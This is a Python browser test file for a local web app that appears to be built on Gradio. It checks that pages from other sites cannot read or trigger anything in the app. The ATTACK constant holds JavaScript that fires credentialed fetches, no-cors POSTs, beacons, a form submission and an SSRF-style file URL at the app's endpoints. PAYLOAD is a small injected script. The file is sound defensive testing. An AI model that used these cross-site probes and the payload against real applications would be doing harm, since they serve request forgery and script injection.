"""Pages of other sites, in the browser that the app is open in: they read and change nothing."""

from __future__ import annotations

import http.server
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

import pytest
from tests.browser import complaints
from tests.webapp.app_page import load, opened, text_of, when, wrong

from captune.webapp import guard
from captune.webapp.server import Running

pytestmark = pytest.mark.needs("chromium")

# what the attack was made of, and what else a page can send
ATTACK = """<!doctype html><title>evil</title><body><script>
const app = "{app}", own = location.origin;
const said = window.said = [];
addEventListener("message", (sent) => {{ if (sent.data === "ran") said.push("ran as the app"); }});
const add = (kind, settings) => document.body.append(
  Object.assign(document.createElement(kind), settings));
const targets = ["", "theme.css", "gradio_api/app_id", "gradio_api/file=" + own + "/x.png",
  "gradio_api/queue/data?session_hash=evil", "?token=guess"];
const types = ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=b",
  "application/json"];
const body = JSON.stringify({{data: [], fn_index: 0, session_hash: "evil"}});
const ask = (target, settings) => fetch(app + target, {{credentials: "include", ...settings}})
  .then((answer) => {{ if (answer.type !== "opaque") said.push("read " + target); }}, () => 0);
(async () => {{
  for (const target of targets) {{
    await ask(target, {{mode: "cors"}});
    await ask(target, {{mode: "no-cors"}});
    add("iframe", {{src: app + target}});
    add("img", {{src: app + target, onload: () => said.push("picture " + target)}});
    add("script", {{src: app + target, onload: () => said.push("script " + target)}});
  }}
  for (const target of ["gradio_api/queue/join", "gradio_api/upload"]) {{
    for (const type of types) {{
      const mode = type === "application/json" ? "cors" : "no-cors";
      await ask(target, {{method: "POST", mode, body, headers: {{"Content-Type": type}}}});
    }}
    navigator.sendBeacon(app + target, body);
  }}
  add("form", {{method: "POST", enctype: "text/plain", target: "_blank",
    action: app + "gradio_api/queue/join", id: "form"}});
  document.querySelector("#form").submit();
  try {{ new WebSocket(app.replace("http", "ws")); }} catch (error) {{ said.push("socket"); }}
  add("a", {{href: app + "gradio_api/file=" + own + "/x.png", id: "link", textContent: "x"}});
  window.over = true;
}})();
</script>"""
PAYLOAD = b"<script>(opener || parent).postMessage('ran', '*'); document.title = 'ran'</script>"


class Site:
    """A server of somebody else. asked: the paths that it was asked for."""

    def __init__(self, page: str) -> None:
        self.asked: list[str] = []
        asked = self.asked

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                asked.append(self.path)
                body = PAYLOAD if self.path.startswith("/x.png") else page.encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_: Any) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def address(self, host: str) -> str:
        return f"http://{host}:{self.server.server_port}/"


@pytest.fixture(scope="module")
def opened_once(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Running, Any]]:
    with opened(tmp_path_factory.mktemp("app")) as found:
        yield found


@pytest.fixture
def page(opened_once: tuple[Running, Any]) -> tuple[Running, Any]:
    """An app, and a browser that has loaded it."""
    app, driver = opened_once
    load(driver, app)
    wrong(driver)
    return app, driver


@contextmanager
def site(page: str) -> Iterator[Site]:
    made = Site(page)
    try:
        yield made
    finally:
        made.server.shutdown()
        made.server.server_close()


@pytest.fixture
def seen(monkeypatch: pytest.MonkeyPatch) -> list[tuple[str, str, int]]:
    """(where from, what, status) of every request that the app was sent."""
    found: list[tuple[str, str, int]] = []
    real = guard.Guard.__call__

    async def call(self: Any, scope: Any, receive: Any, send: Any) -> None:
        async def tell(message: Any) -> None:
            if message["type"] == "http.response.start":
                headers = dict(scope["headers"])
                where = headers.get(b"sec-fetch-site", b"").decode()
                found.append((where, f"{scope['method']} {scope['path']}", message["status"]))
            await send(message)

        await real(self, scope, receive, tell)

    monkeypatch.setattr(guard.Guard, "__call__", call)
    return found


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])
def test_a_page_of_another_site_gets_nothing(
    page: tuple[Running, Any],
    monkeypatch: pytest.MonkeyPatch,
    seen: list[tuple[str, str, int]],
    host: str,
) -> None:
    """host: the same one at another port, which is the same site to cookies, and another one."""
    import safehttpx

    async def public(name: str) -> str:
        return "127.0.0.1"

    # the framework fetches what has a public address, as an attacker's own host has
    monkeypatch.setattr(safehttpx, "async_validate_url", public)
    app, driver = page
    with site(ATTACK.format(app=app.url)) as evil:
        seen.clear()
        driver.get(evil.address(host))
        when(driver, "window.over", 60)
        time.sleep(1)
        assert driver.execute_script("return window.said") == []
        driver.execute_script("document.querySelector('#link').click()")
        when(driver, "document.body && document.body.innerText.includes('captune app')")
        assert "a page of another site asked" in text_of(driver, "body")
        foreign = [one for one in seen if one[0] in ("cross-site", "same-site")]
        assert len(foreign) > 20
        assert {status for _, _, status in foreign} == {403}
        assert [path for path in evil.asked if path.startswith("/x.png")] == []
        # whoever pastes such an address is none the worse for it
        driver.get(f"{app.url}gradio_api/file={evil.address('127.0.0.1')}x.png")
        assert "the page asks for nothing of that kind" in text_of(driver, "body")
        assert [path for path in evil.asked if path.startswith("/x.png")] == []
        assert driver.title != "ran"
        assert (app.folder / "gradio").exists()
        # the app itself is as it was
        driver.get(app.url)
        when(driver, "document.querySelector('#classify')")


def test_a_link_with_the_token_in_another_page_is_refused_and_pasted_it_works(
    page: tuple[Running, Any], seen: list[tuple[str, str, int]]
) -> None:
    app, driver = page
    driver.delete_all_cookies()
    link = f'<!doctype html><a id="link" href="{app.address}">captune</a>'
    with site(link) as other:
        driver.get(other.address("localhost"))
        driver.find_element("css selector", "#link").click()
        when(driver, "document.body.innerText.includes('paste the app')")
        assert driver.get_cookies() == []
    driver.get(app.url)
    assert "open the address that captune app printed" in text_of(driver, "body")
    driver.get(app.address)
    when(driver, "document.querySelector('#classify')")
    assert driver.current_url == app.url
    (cookie,) = driver.get_cookies()
    assert (cookie["httpOnly"], cookie["sameSite"], cookie["path"]) == (True, "Strict", "/")
    driver.refresh()
    when(driver, "document.querySelector('#classify')")


def test_the_file_that_open_hands_to_the_browser_opens_the_page_once(
    page: tuple[Running, Any],
) -> None:
    app, driver = page
    for _ in range(2):
        driver.delete_all_cookies()
        file = app.opening()
        driver.get(file)
        when(driver, "document.querySelector('#classify')")
        assert driver.current_url == app.url
        time.sleep(1)
    assert wrong(driver) == []
    driver.delete_all_cookies()
    driver.get(file)
    when(driver, "document.body.innerText.includes('captune app')")
    assert driver.get_cookies() == []
    complaints(driver)
